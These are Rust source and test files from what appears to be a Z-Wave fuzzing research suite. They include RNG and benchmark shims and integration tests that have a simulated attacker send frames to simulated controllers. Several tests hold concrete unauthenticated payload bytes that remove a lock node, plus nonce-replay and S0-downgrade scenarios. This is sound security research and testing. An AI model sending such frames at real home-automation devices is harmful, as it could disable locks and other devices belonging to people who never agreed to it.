            let elapsed = start.elapsed();
            total += elapsed;
            best = best.min(elapsed);
        }
        let iters = u128::from(batch) * self.samples as u128;
        let mean = Duration::from_nanos((total.as_nanos() / iters.max(1)) as u64);
        self.report(mean, div_duration(best, batch));
    }

    fn report(&self, mean: Duration, min: Duration) {
        println!("        time: [mean {} | min {}]", fmt_ns(mean), fmt_ns(min));
    }
}

fn div_duration(d: Duration, by: u64) -> Duration {
    Duration::from_nanos((d.as_nanos() / u128::from(by.max(1))) as u64)
}

fn fmt_ns(d: Duration) -> String {
    let ns = d.as_nanos();
    if ns < 1_000 {
        format!("{ns} ns")
    } else if ns < 1_000_000 {
        format!("{:.2} µs", ns as f64 / 1e3)
    } else if ns < 1_000_000_000 {
        format!("{:.2} ms", ns as f64 / 1e6)
    } else {
        format!("{:.2} s", ns as f64 / 1e9)
    }
}

/// Benchmark registry: runs each registered function immediately and
/// prints its timing.
pub struct Criterion {
    sample_size: usize,
}

impl Default for Criterion {
    fn default() -> Self {
        Criterion { sample_size: 20 }
    }
}

impl Criterion {
    /// Runs a single named benchmark.
    pub fn bench_function<F>(&mut self, name: &str, mut f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        println!("{name}");
        f(&mut Bencher { samples: self.sample_size });
        self
    }

    /// Opens a named group; benchmarks inside print as `group/name`.
    pub fn benchmark_group(&mut self, name: &str) -> BenchmarkGroup<'_> {
        BenchmarkGroup { name: name.to_string(), sample_size: self.sample_size, _parent: self }
    }
}

/// A named group of benchmarks with its own sample size.
pub struct BenchmarkGroup<'a> {
    name: String,
    sample_size: usize,
    _parent: &'a mut Criterion,
}

impl BenchmarkGroup<'_> {
    /// Sets how many timed batches each benchmark in the group runs.
    pub fn sample_size(&mut self, n: usize) -> &mut Self {
        self.sample_size = n.max(2);
        self
    }

    /// Runs a benchmark within the group.
    pub fn bench_function<F>(&mut self, name: &str, mut f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        println!("{}/{name}", self.name);
        f(&mut Bencher { samples: self.sample_size });
        self
    }

    /// Ends the group (printing is immediate, so this is a marker only).
    pub fn finish(self) {}
}

/// Declares a benchmark group function, criterion-style.
#[macro_export]
macro_rules! criterion_group {
    ($name:ident, $($target:path),+ $(,)?) => {
        pub fn $name() {
            let mut criterion = $crate::Criterion::default();
            $( $target(&mut criterion); )+
        }
    };
}

/// Declares the bench binary's `main`, running the listed groups.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $( $group(); )+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bench_function_runs_closure() {
        let mut runs = 0u64;
        let mut c = Criterion::default();
        c.bench_function("smoke", |b| {
            b.iter(|| {
                runs += 1;
                black_box(runs)
            })
        });
        assert!(runs > 0);
    }

    #[test]
    fn group_respects_api_shape() {
        let mut c = Criterion::default();
        let mut group = c.benchmark_group("g");
        group.sample_size(2);
        group.bench_function("inner", |b| b.iter(|| black_box(1 + 1)));
        group.finish();
    }

    #[test]
    fn fmt_ns_scales_units() {
        assert_eq!(fmt_ns(Duration::from_nanos(5)), "5 ns");
        assert!(fmt_ns(Duration::from_micros(12)).ends_with("µs"));
        assert!(fmt_ns(Duration::from_millis(12)).ends_with("ms"));
        assert!(fmt_ns(Duration::from_secs(2)).ends_with('s'));
    }
}

//! Offline stand-in for the `rand` crate.
//!
//! The build environment has no network access and no crates.io cache, so
//! the workspace vendors the narrow slice of the `rand 0.8` API it actually
//! uses: [`rngs::StdRng`] + [`SeedableRng::seed_from_u64`], the [`Rng`]
//! extension methods (`gen`, `gen_range`, `gen_bool`), and
//! [`seq::SliceRandom::choose`]. Everything is backed by xoshiro256++
//! seeded through splitmix64, so every draw is deterministic for a given
//! seed — the property the campaign executor's bit-identical-merge
//! contract depends on. The streams differ from upstream `rand`'s ChaCha12
//! `StdRng`, which is fine: nothing in the workspace pins upstream streams.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

use std::ops::{Range, RangeInclusive};

/// Low-level uniform bit source.
pub trait RngCore {
    /// The next 32 uniform bits.
    fn next_u32(&mut self) -> u32;
    /// The next 64 uniform bits.
    fn next_u64(&mut self) -> u64;
}

/// Seedable generators.
pub trait SeedableRng: Sized {
    /// Builds a generator from a 64-bit seed (splitmix64-expanded).
    fn seed_from_u64(seed: u64) -> Self;
}

/// Types that [`Rng::gen`] can produce uniformly.
pub trait Standard: Sized {
    /// Draws one uniform value.
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self;
}

macro_rules! impl_standard_uint {
    ($($t:ty),*) => {$(
        impl Standard for $t {
            fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
                rng.next_u64() as $t
            }
        }
    )*};
}
impl_standard_uint!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Standard for bool {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u64() & 1 == 1
    }
}

impl Standard for f64 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        // 53 uniform mantissa bits in [0, 1).
        (rng.next_u64() >> 11) as f64 / (1u64 << 53) as f64
    }
}

impl<const N: usize> Standard for [u8; N] {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        let mut out = [0u8; N];
        for chunk in out.chunks_mut(8) {
            let v = rng.next_u64().to_le_bytes();
            chunk.copy_from_slice(&v[..chunk.len()]);
        }
        out
    }
}

/// Integer types [`Rng::gen_range`] can sample.
pub trait SampleUniform: Copy + PartialOrd {
    /// Widens to u128 (order-preserving for the unsigned types used here).
    fn to_u128(self) -> u128;
    /// Narrows from u128.
    fn from_u128(v: u128) -> Self;
}

macro_rules! impl_sample_uniform {
    ($($t:ty),*) => {$(
        impl SampleUniform for $t {
            fn to_u128(self) -> u128 { self as u128 }
            fn from_u128(v: u128) -> Self { v as $t }
        }
    )*};
}
impl_sample_uniform!(u8, u16, u32, u64, usize);

macro_rules! impl_sample_uniform_signed {
    ($($t:ty),*) => {$(
        impl SampleUniform for $t {
            // Bias through i128 so the mapping is order-preserving.
            fn to_u128(self) -> u128 {
                (self as i128).wrapping_sub(i128::MIN) as u128
            }
            fn from_u128(v: u128) -> Self {
                (v as i128).wrapping_add(i128::MIN) as $t
            }
        }
    )*};
}
impl_sample_uniform_signed!(i8, i16, i32, i64, isize);

/// Ranges accepted by [`Rng::gen_range`]; bounds are normalised to an
/// inclusive `[lo, hi]` pair.
pub trait SampleRange<T> {
    /// Inclusive bounds. Panics on an empty range.
    fn bounds(self) -> (T, T);
}

impl<T: SampleUniform> SampleRange<T> for Range<T> {
    fn bounds(self) -> (T, T) {
        assert!(self.start < self.end, "gen_range called with an empty range");
        (self.start, T::from_u128(self.end.to_u128() - 1))
    }
}

impl<T: SampleUniform> SampleRange<T> for RangeInclusive<T> {
    fn bounds(self) -> (T, T) {
        let (lo, hi) = self.into_inner();
        assert!(lo <= hi, "gen_range called with an empty range");
        (lo, hi)
    }
}

fn uniform_u128<R: RngCore + ?Sized>(rng: &mut R, span: u128) -> u128 {
    // span <= 2^64 for every supported type; a 64-bit draw with modulo
    // reduction is deterministic and near-uniform for the small spans the
    // workspace samples.
    if span == 0 {
        u128::from(rng.next_u64())
    } else {
        u128::from(rng.next_u64()) % span
    }
}

/// High-level sampling methods, available on every [`RngCore`].
pub trait Rng: RngCore {
    /// Draws a uniform value of an inferred type.
    fn gen<T: Standard>(&mut self) -> T
    where
        Self: Sized,
    {
        T::sample(self)
    }

    /// Draws uniformly from `range` (half-open or inclusive).
    fn gen_range<T, S>(&mut self, range: S) -> T
    where
        T: SampleUniform,
        S: SampleRange<T>,
        Self: Sized,
    {
        let (lo, hi) = range.bounds();
        let span = hi.to_u128() - lo.to_u128() + 1;
        T::from_u128(lo.to_u128() + uniform_u128(self, span))
    }

    /// Returns `true` with probability `p` (clamped to `[0, 1]`).
    fn gen_bool(&mut self, p: f64) -> bool
    where
        Self: Sized,
    {
        f64::sample(self) < p
    }
}

impl<R: RngCore + ?Sized> Rng for R {}

/// Random selection from slices.
pub mod seq {
    use super::RngCore;

    /// Random selection from slices, mirroring `rand::seq::SliceRandom`.
    pub trait SliceRandom {
        /// The element type.
        type Item;
        /// A uniformly chosen element, or `None` on an empty slice.
        fn choose<R: RngCore + ?Sized>(&self, rng: &mut R) -> Option<&Self::Item>;
        /// Fisher–Yates shuffle.
        fn shuffle<R: RngCore + ?Sized>(&mut self, rng: &mut R);
    }

    impl<T> SliceRandom for [T] {
        type Item = T;

        fn choose<R: RngCore + ?Sized>(&self, rng: &mut R) -> Option<&T> {
            if self.is_empty() {
                None
            } else {
                let idx = (rng.next_u64() % self.len() as u64) as usize;
                self.get(idx)
            }
        }

        fn shuffle<R: RngCore + ?Sized>(&mut self, rng: &mut R) {
            for i in (1..self.len()).rev() {
                let j = (rng.next_u64() % (i as u64 + 1)) as usize;
                self.swap(i, j);
            }
        }
    }
}

/// Concrete generators.
pub mod rngs {
    use super::{RngCore, SeedableRng};

    fn splitmix64(state: &mut u64) -> u64 {
        *state = state.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = *state;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// The workspace's standard generator: xoshiro256++.
    ///
    /// Fast, tiny-state, and fully deterministic from
    /// [`SeedableRng::seed_from_u64`] — statistically solid for simulation
    /// and fuzzing workloads (it is `rand`'s own `SmallRng` algorithm).
    #[derive(Debug, Clone)]
    pub struct StdRng {
        s: [u64; 4],
    }

    impl SeedableRng for StdRng {
        fn seed_from_u64(seed: u64) -> Self {
            let mut sm = seed;
            StdRng {
                s: [
                    splitmix64(&mut sm),
                    splitmix64(&mut sm),
                    splitmix64(&mut sm),
                    splitmix64(&mut sm),
                ],
            }
        }
    }

    impl RngCore for StdRng {
        fn next_u32(&mut self) -> u32 {
            (self.next_u64() >> 32) as u32
        }

        fn next_u64(&mut self) -> u64 {
            let s = &mut self.s;
            let result = s[0].wrapping_add(s[3]).rotate_left(23).wrapping_add(s[0]);
            let t = s[1] << 17;
            s[2] ^= s[0];
            s[3] ^= s[1];
            s[1] ^= s[2];
            s[0] ^= s[3];
            s[2] ^= t;
            s[3] = s[3].rotate_left(45);
            result
        }
    }
}

pub use rngs::StdRng;

#[cfg(test)]
mod tests {
    use super::seq::SliceRandom;
    use super::*;

    #[test]
    fn seeding_is_deterministic() {
        let mut a = StdRng::seed_from_u64(42);
        let mut b = StdRng::seed_from_u64(42);
        for _ in 0..100 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
        let mut c = StdRng::seed_from_u64(43);
        assert_ne!(StdRng::seed_from_u64(42).next_u64(), c.next_u64());
    }

    #[test]
    fn gen_range_respects_bounds() {
        let mut rng = StdRng::seed_from_u64(1);
        for _ in 0..1000 {
            let v: u8 = rng.gen_range(1..=4u8);
            assert!((1..=4).contains(&v));
            let w = rng.gen_range(9usize..17);
            assert!((9..17).contains(&w));
        }
    }

    #[test]
    fn gen_range_covers_the_span() {
        let mut rng = StdRng::seed_from_u64(2);
        let mut seen = std::collections::HashSet::new();
        for _ in 0..500 {
            seen.insert(rng.gen_range(0..8u8));
        }
        assert_eq!(seen.len(), 8);
    }

    #[test]
    fn gen_bool_tracks_probability() {
        let mut rng = StdRng::seed_from_u64(3);
        let hits = (0..10_000).filter(|_| rng.gen_bool(0.25)).count();
        assert!((2_200..2_800).contains(&hits), "hits={hits}");
        assert_eq!((0..100).filter(|_| rng.gen_bool(0.0)).count(), 0);
        assert_eq!((0..100).filter(|_| rng.gen_bool(1.0)).count(), 100);
    }

    #[test]
    fn choose_is_uniformish_and_total() {
        let mut rng = StdRng::seed_from_u64(4);
        let empty: [u8; 0] = [];
        assert_eq!(empty.choose(&mut rng), None);
        let pool = [10u8, 20, 30];
        let mut seen = std::collections::HashSet::new();
        for _ in 0..100 {
            seen.insert(*pool.choose(&mut rng).unwrap());
        }
        assert_eq!(seen.len(), 3);
    }

    #[test]
    fn array_and_bool_standard_draws() {
        let mut rng = StdRng::seed_from_u64(5);
        let a: [u8; 16] = rng.gen();
        let b: [u8; 16] = rng.gen();
        assert_ne!(a, b);
        let f: f64 = rng.gen();
        assert!((0.0..1.0).contains(&f));
    }

    #[test]
    fn shuffle_permutes() {
        let mut rng = StdRng::seed_from_u64(6);
        let mut v: Vec<u32> = (0..32).collect();
        let orig = v.clone();
        v.shuffle(&mut rng);
        assert_ne!(v, orig);
        let mut sorted = v.clone();
        sorted.sort_unstable();
        assert_eq!(sorted, orig);
    }
}

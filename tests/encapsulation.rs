//! Integration tests for the controller's transport-encapsulation
//! handling: S0, CRC-16 and Supervision unwrapping, and the security
//! semantics each carries (a checksum is not a MAC; an S0 MAC is).

use zcover_suite::zwave_controller::testbed::{DeviceModel, Testbed, LOCK_NODE, SWITCH_NODE};
use zcover_suite::zwave_crypto::s0::{self, S0Keys};
use zcover_suite::zwave_protocol::checksum::crc16_ccitt;
use zcover_suite::zwave_protocol::{MacFrame, NodeId};

fn send(tb: &mut Testbed, attacker: &zcover_suite::zwave_radio::Transceiver, payload: Vec<u8>) {
    let frame = MacFrame::singlecast(tb.controller().home_id(), SWITCH_NODE, NodeId(0x01), payload);
    attacker.transmit(&frame.encode());
    tb.pump();
}

fn crc16_encap(inner: &[u8]) -> Vec<u8> {
    let mut body = vec![0x56, 0x01];
    body.extend_from_slice(inner);
    let crc = crc16_ccitt(&body);
    body.extend_from_slice(&crc.to_be_bytes());
    body
}

#[test]
fn crc16_encapsulated_commands_are_processed() {
    let mut tb = Testbed::new(DeviceModel::D1, 41);
    let attacker = tb.attach_attacker(70.0);
    attacker.drain();
    // A benign Version Get wrapped in CRC-16 encapsulation gets a report.
    send(&mut tb, &attacker, crc16_encap(&[0x86, 0x11]));
    let frames = attacker.drain();
    let report = frames
        .iter()
        .filter_map(|f| MacFrame::decode(&f.bytes).ok())
        .find(|m| !m.is_ack())
        .expect("version report");
    assert_eq!(&report.payload()[..2], &[0x86, 0x12]);
}

#[test]
fn crc16_encapsulation_grants_no_authenticity() {
    // Wrapping an attack payload in CRC-16 encap must still trigger the
    // bug: a checksum is integrity against noise, not authentication.
    let mut tb = Testbed::new(DeviceModel::D1, 41);
    let attacker = tb.attach_attacker(70.0);
    send(&mut tb, &attacker, crc16_encap(&[0x01, 0x0D, LOCK_NODE.0]));
    assert!(!tb.controller().nvm().contains(LOCK_NODE));
    assert_eq!(tb.controller().fault_log().records()[0].bug_id, 3);
}

#[test]
fn corrupt_crc16_trailer_is_dropped() {
    let mut tb = Testbed::new(DeviceModel::D1, 41);
    let attacker = tb.attach_attacker(70.0);
    let mut encap = crc16_encap(&[0x01, 0x0D, LOCK_NODE.0]);
    let last = encap.len() - 1;
    encap[last] ^= 0x01;
    send(&mut tb, &attacker, encap);
    assert!(tb.controller().nvm().contains(LOCK_NODE));
    assert!(tb.controller().fault_log().is_empty());
}

#[test]
fn supervision_encapsulated_commands_are_confirmed() {
    let mut tb = Testbed::new(DeviceModel::D1, 42);
    let attacker = tb.attach_attacker(70.0);
    attacker.drain();
    // SUPERVISION GET { session 5, len 2, inner = Basic Get }.
    send(&mut tb, &attacker, vec![0x6C, 0x01, 0x05, 0x02, 0x20, 0x02]);
    let frames = attacker.drain();
    let payloads: Vec<Vec<u8>> = frames
        .iter()
        .filter_map(|f| MacFrame::decode(&f.bytes).ok())
        .filter(|m| !m.is_ack())
        .map(|m| m.payload().to_vec())
        .collect();
    // Inner Basic Get produced a Basic Report, and the wrapper produced a
    // SUPERVISION REPORT with success status.
    assert!(payloads.iter().any(|p| p.starts_with(&[0x20, 0x03])), "{payloads:?}");
    assert!(payloads.iter().any(|p| p.starts_with(&[0x6C, 0x02, 0x05, 0xFF])), "{payloads:?}");
}

#[test]
fn supervision_length_mismatch_is_dropped() {
    let mut tb = Testbed::new(DeviceModel::D1, 42);
    let attacker = tb.attach_attacker(70.0);
    attacker.drain();
    // Declared length 5 but only 2 inner bytes: dropped, no report.
    send(&mut tb, &attacker, vec![0x6C, 0x01, 0x05, 0x05, 0x20, 0x02]);
    let frames = attacker.drain();
    assert!(frames.iter().filter_map(|f| MacFrame::decode(&f.bytes).ok()).all(|m| m.is_ack()));
}

#[test]
fn s0_nonce_flow_and_encapsulated_dispatch() {
    let mut tb = Testbed::new(DeviceModel::D2, 43);
    let keys = S0Keys::derive(tb.controller().s0_key());
    let attacker = tb.attach_attacker(10.0);
    attacker.drain();

    // 1. Nonce Get → Nonce Report.
    send(&mut tb, &attacker, vec![0x98, 0x40]);
    let frames = attacker.drain();
    let nonce_report = frames
        .iter()
        .filter_map(|f| MacFrame::decode(&f.bytes).ok())
        .find(|m| !m.is_ack() && m.payload().starts_with(&[0x98, 0x80]))
        .expect("nonce report");
    let mut receiver_nonce = [0u8; 8];
    receiver_nonce.copy_from_slice(&nonce_report.payload()[2..10]);

    // 2. Encapsulate a Basic Get under the S0 key with that nonce.
    let sender_nonce = [0x77u8; 8];
    let encap =
        s0::encapsulate(&keys, SWITCH_NODE.0, 0x01, &sender_nonce, &receiver_nonce, &[0x20, 0x02]);
    attacker.drain();
    send(&mut tb, &attacker, encap);
    let frames = attacker.drain();
    assert!(
        frames
            .iter()
            .filter_map(|f| MacFrame::decode(&f.bytes).ok())
            .any(|m| !m.is_ack() && m.payload().starts_with(&[0x20, 0x03])),
        "expected a Basic Report to the S0-encapsulated Get"
    );
}

#[test]
fn s0_nonces_are_single_use() {
    let mut tb = Testbed::new(DeviceModel::D2, 44);
    let keys = S0Keys::derive(tb.controller().s0_key());
    let attacker = tb.attach_attacker(10.0);

    send(&mut tb, &attacker, vec![0x98, 0x40]);
    let frames = attacker.drain();
    let nonce_report = frames
        .iter()
        .filter_map(|f| MacFrame::decode(&f.bytes).ok())
        .find(|m| m.payload().starts_with(&[0x98, 0x80]))
        .unwrap();
    let mut nonce = [0u8; 8];
    nonce.copy_from_slice(&nonce_report.payload()[2..10]);

    let encap = s0::encapsulate(&keys, SWITCH_NODE.0, 0x01, &[1u8; 8], &nonce, &[0x20, 0x02]);
    send(&mut tb, &attacker, encap.clone());
    attacker.drain();
    // Replaying the same encapsulation (same nonce) yields nothing.
    send(&mut tb, &attacker, encap);
    let frames = attacker.drain();
    assert!(
        frames.iter().filter_map(|f| MacFrame::decode(&f.bytes).ok()).all(|m| m.is_ack()),
        "replay with a consumed nonce must be dropped"
    );
}

#[test]
fn s0_encapsulated_payloads_do_not_trigger_the_unencrypted_bugs() {
    // The Table III flaws are *unencrypted acceptance* flaws: the same
    // payload arriving under a verified S0 MAC takes the legitimate path.
    let mut tb = Testbed::new(DeviceModel::D2, 45);
    let keys = S0Keys::derive(tb.controller().s0_key());
    let attacker = tb.attach_attacker(10.0);

    send(&mut tb, &attacker, vec![0x98, 0x40]);
    let frames = attacker.drain();
    let nonce_report = frames
        .iter()
        .filter_map(|f| MacFrame::decode(&f.bytes).ok())
        .find(|m| m.payload().starts_with(&[0x98, 0x80]))
        .unwrap();
    let mut nonce = [0u8; 8];
    nonce.copy_from_slice(&nonce_report.payload()[2..10]);

    let attack = [0x01, 0x0D, LOCK_NODE.0];
    let encap = s0::encapsulate(&keys, SWITCH_NODE.0, 0x01, &[2u8; 8], &nonce, &attack);
    send(&mut tb, &attacker, encap);
    assert!(
        tb.controller().nvm().contains(LOCK_NODE),
        "S0-authenticated path must not fire the bug"
    );
    assert!(tb.controller().fault_log().is_empty());
}

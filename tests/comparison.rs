//! Integration tests for the ZCover-vs-VFuzz comparison property the paper
//! highlights: "there were no vulnerabilities found in common between both
//! tools" (Section IV-C).

use std::collections::BTreeSet;
use std::time::Duration;

use zcover_suite::vfuzz::{capture_corpus, VFuzz, VFuzzConfig};
use zcover_suite::zcover::{Dongle, FuzzConfig, PassiveScanner, ZCover};
use zcover_suite::zwave_controller::testbed::{DeviceModel, Testbed};

fn zcover_findings(model: DeviceModel, seed: u64) -> BTreeSet<u8> {
    let mut tb = Testbed::new(model, seed);
    let mut zc = ZCover::attach(&tb, 70.0);
    let report =
        zc.run_campaign(&mut tb, FuzzConfig::full(Duration::from_secs(2 * 3600), seed)).unwrap();
    report.campaign.findings.iter().map(|f| f.bug_id).collect()
}

fn vfuzz_findings(model: DeviceModel, seed: u64) -> BTreeSet<u8> {
    let mut tb = Testbed::new(model, seed);
    let corpus = capture_corpus(&mut tb, 3);
    let mut passive = PassiveScanner::new(tb.medium(), 70.0);
    tb.exchange_normal_traffic();
    let scan = passive.analyze().unwrap();
    let mut dongle = Dongle::attach(tb.medium(), 70.0);
    let fuzzer = VFuzz::new(VFuzzConfig::comparison(Duration::from_secs(12 * 3600), seed));
    fuzzer.run(&mut tb, &mut dongle, &scan, &corpus).findings.iter().map(|f| f.bug_id).collect()
}

#[test]
fn no_findings_in_common_on_d4() {
    let z = zcover_findings(DeviceModel::D4, 4);
    let v = vfuzz_findings(DeviceModel::D4, 4);
    assert!(!z.is_empty() && !v.is_empty());
    assert!(z.is_disjoint(&v), "overlap: {:?}", z.intersection(&v).collect::<Vec<_>>());
    // ZCover's findings are the Table III zero-days (ids ≤ 15); VFuzz's
    // are the shallow one-day MAC quirks (ids > 100).
    assert!(z.iter().all(|&id| id <= 15));
    assert!(v.iter().all(|&id| id > 100));
}

#[test]
fn zcover_beats_vfuzz_on_every_usb_device() {
    for model in DeviceModel::usb_models() {
        let z = zcover_findings(model, 8);
        let v = vfuzz_findings(model, 8);
        assert!(z.len() > v.len(), "{model:?}: zcover {} vs vfuzz {}", z.len(), v.len());
    }
}

#[test]
fn vfuzz_never_reaches_the_application_layer_bugs() {
    // Even a long VFuzz run on the bug-rich D1 finds no Table III ids.
    let v = vfuzz_findings(DeviceModel::D1, 15);
    assert!(v.iter().all(|&id| id > 100), "vfuzz found zero-days: {v:?}");
}

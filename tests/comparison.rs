//! Integration tests for the ZCover-vs-VFuzz comparison property the paper
//! highlights: "there were no vulnerabilities found in common between both
//! tools" (Section IV-C) — plus the three-way regression gate for the
//! coverage-guided mode: within the same virtual budget, coverage mode
//! must discover every Table III bug the positional zcover mode does.

use std::collections::BTreeSet;
use std::time::Duration;

use zcover_suite::vfuzz::{capture_corpus, VFuzz, VFuzzConfig};
use zcover_suite::zcover::{Dongle, FuzzConfig, PassiveScanner, ZCover};
use zcover_suite::zwave_controller::testbed::{DeviceModel, Testbed};

fn campaign_findings(model: DeviceModel, seed: u64, config: FuzzConfig) -> BTreeSet<u8> {
    let mut tb = Testbed::new(model, seed);
    let mut zc = ZCover::attach(&tb, 70.0);
    let report = zc.run_campaign(&mut tb, config).unwrap();
    report.campaign.findings.iter().map(|f| f.bug_id).collect()
}

fn zcover_findings(model: DeviceModel, seed: u64) -> BTreeSet<u8> {
    campaign_findings(model, seed, FuzzConfig::full(Duration::from_secs(2 * 3600), seed))
}

fn vfuzz_findings(model: DeviceModel, seed: u64) -> BTreeSet<u8> {
    let mut tb = Testbed::new(model, seed);
    let corpus = capture_corpus(&mut tb, 3);
    let mut passive = PassiveScanner::new(tb.medium(), 70.0);
    tb.exchange_normal_traffic();
    let scan = passive.analyze().unwrap();
    let mut dongle = Dongle::attach(tb.medium(), 70.0);
    let fuzzer = VFuzz::new(VFuzzConfig::comparison(Duration::from_secs(12 * 3600), seed));
    fuzzer.run(&mut tb, &mut dongle, &scan, &corpus).findings.iter().map(|f| f.bug_id).collect()
}

#[test]
fn no_findings_in_common_on_d4() {
    let z = zcover_findings(DeviceModel::D4, 4);
    let v = vfuzz_findings(DeviceModel::D4, 4);
    assert!(!z.is_empty() && !v.is_empty());
    assert!(z.is_disjoint(&v), "overlap: {:?}", z.intersection(&v).collect::<Vec<_>>());
    // ZCover's findings are the Table III zero-days (ids ≤ 15); VFuzz's
    // are the shallow one-day MAC quirks (ids > 100).
    assert!(z.iter().all(|&id| id <= 15));
    assert!(v.iter().all(|&id| id > 100));
}

#[test]
fn zcover_beats_vfuzz_on_every_usb_device() {
    for model in DeviceModel::usb_models() {
        let z = zcover_findings(model, 8);
        let v = vfuzz_findings(model, 8);
        assert!(z.len() > v.len(), "{model:?}: zcover {} vs vfuzz {}", z.len(), v.len());
    }
}

#[test]
fn vfuzz_never_reaches_the_application_layer_bugs() {
    // Even a long VFuzz run on the bug-rich D1 finds no Table III ids.
    let v = vfuzz_findings(DeviceModel::D1, 15);
    assert!(v.iter().all(|&id| id > 100), "vfuzz found zero-days: {v:?}");
}

#[test]
fn coverage_mode_subsumes_zcover_findings_on_every_device() {
    // The three-way regression gate: on D1-D7 within the same 2 h virtual
    // budget, the coverage-guided engine discovers every Table III bug
    // the positional engine does. Coverage guidance may only add reach,
    // never lose it.
    let budget = Duration::from_secs(2 * 3600);
    for model in DeviceModel::all() {
        let z: BTreeSet<u8> = campaign_findings(model, 6, FuzzConfig::full(budget, 6))
            .into_iter()
            .filter(|&id| id <= 15)
            .collect();
        let c: BTreeSet<u8> = campaign_findings(model, 6, FuzzConfig::coverage(budget, 6))
            .into_iter()
            .filter(|&id| id <= 15)
            .collect();
        assert!(!z.is_empty(), "{model:?}: zcover mode found nothing to compare against");
        assert!(
            c.is_superset(&z),
            "{model:?}: coverage mode missed {:?}",
            z.difference(&c).collect::<Vec<_>>()
        );
    }
}

#[test]
fn in_suite_vfuzz_mode_matches_the_blind_baseline_profile() {
    // The in-suite `--mode vfuzz` engine reproduces the comparison
    // profile of the standalone VFuzz tool: blind random APL injection
    // through the same oracle finds at most shallow bugs, never the
    // deep Table III set the guided engines reach.
    let budget = Duration::from_secs(2 * 3600);
    let v = campaign_findings(DeviceModel::D1, 6, FuzzConfig::vfuzz(budget, 6));
    let z = campaign_findings(DeviceModel::D1, 6, FuzzConfig::full(budget, 6));
    assert!(
        v.len() < z.len(),
        "blind mode found {} bugs vs zcover's {} — it should trail the guided engines",
        v.len(),
        z.len()
    );
}

//! Golden snapshots of the `--format json` output schema: the exact bytes
//! `zcover fuzz` and `zcover trials` print for a fixed seed are pinned
//! under `tests/golden_json/`, so any schema drift — a renamed key, a
//! reordered field, a changed number format — fails here instead of
//! silently breaking downstream consumers.
//!
//! Regenerate after an *intentional* schema change with:
//!
//! ```text
//! cargo run --release --bin zcover -- fuzz --device D1 --hours 0.25 \
//!     --seed 3 --format json > tests/golden_json/fuzz_d1_seed3.json
//! cargo run --release --bin zcover -- trials --device D1 --trials 2 \
//!     --seed 7 --hours 0.25 --format json > tests/golden_json/trials_d1_seed7.json
//! cargo run --release --bin zcover -- sweep --homes 6 --topology line \
//!     --hours 0.05 --seed 5 --shard-size 4 --workers 2 --format json \
//!     > tests/golden_json/sweep_line6_seed5.json
//! ```

use std::path::{Path, PathBuf};
use std::time::Duration;

use zcover_suite::zcover::report::{campaign_to_json, summary_to_json, sweep_to_json};
use zcover_suite::zcover::{run_sweep, CampaignExecutor, FuzzConfig, SweepConfig, ZCover};
use zcover_suite::zwave_controller::testbed::{DeviceModel, Testbed};
use zcover_suite::zwave_controller::Topology;

fn golden(name: &str) -> (PathBuf, String) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/golden_json").join(name);
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{name}: {e}"));
    (path, text)
}

#[test]
fn fuzz_json_matches_the_golden_snapshot() {
    // The library call the CLI's `fuzz --format json` path boils down to,
    // with identical parameters (D1, seed 3, 0.25 h = 900 s).
    let (_, want) = golden("fuzz_d1_seed3.json");
    let mut tb = Testbed::new(DeviceModel::D1, 3);
    let mut zc = ZCover::attach(&tb, 70.0);
    let report =
        zc.run_campaign(&mut tb, FuzzConfig::full(Duration::from_secs(900), 3)).expect("pipeline");
    let got = format!("{}\n", campaign_to_json(&report.campaign));
    assert_eq!(got, want, "fuzz --format json schema drifted; regenerate if intentional");
}

#[test]
fn attack_campaign_json_matches_the_golden_snapshot() {
    // `fuzz --scenario s0-no-more --format json`: pins the scenario name,
    // the battery-drain verdict row, and the attacker counters.
    let (_, want) = golden("fuzz_d1_s0nomore_seed3.json");
    let mut tb = Testbed::new(DeviceModel::D1, 3);
    let mut zc = ZCover::attach(&tb, 70.0);
    let config = FuzzConfig::full(Duration::from_secs(72), 3)
        .with_scenario(zcover_suite::zcover::Scenario::S0NoMore);
    let report = zc.run_campaign(&mut tb, config).expect("pipeline");
    let got = format!("{}\n", campaign_to_json(&report.campaign));
    assert_eq!(got, want, "attack-campaign json schema drifted; regenerate if intentional");
    assert!(want.contains("\"scenario\":\"s0-no-more\""));
    assert!(want.contains("\"bug_id\":16"), "drain verdict pinned in the golden");
    for key in ["\"attack_frames\":", "\"attack_verdicts\":"] {
        let value = want.split(key).nth(1).and_then(|t| t.split(&[',', '}'][..]).next());
        assert_ne!(value, Some("0"), "golden lost its nonzero {key} counter");
    }
}

#[test]
fn trials_json_matches_the_golden_snapshot() {
    let (_, want) = golden("trials_d1_seed7.json");
    let config = FuzzConfig::full(Duration::from_secs(900), 7);
    let summary = CampaignExecutor::new(1)
        .run(2, 7, |seed| Testbed::new(DeviceModel::D1, seed), &config)
        .expect("trials run");
    let got = format!("{}\n", summary_to_json(&summary));
    assert_eq!(got, want, "trials --format json schema drifted; regenerate if intentional");
}

#[test]
fn sweep_json_matches_the_golden_snapshot() {
    // The library call the CLI's `sweep --format json` path boils down
    // to, with identical parameters (6 line homes, seed 5, 0.05 h each,
    // 4-home shards). The worker count is part of the CLI line that
    // generated the golden but must not matter — that is the schema's
    // central promise, so the reconstruction deliberately uses a
    // different pool size than the generating command.
    let (_, want) = golden("sweep_line6_seed5.json");
    let base = FuzzConfig::full(Duration::from_secs_f64(0.05 * 3600.0), 5);
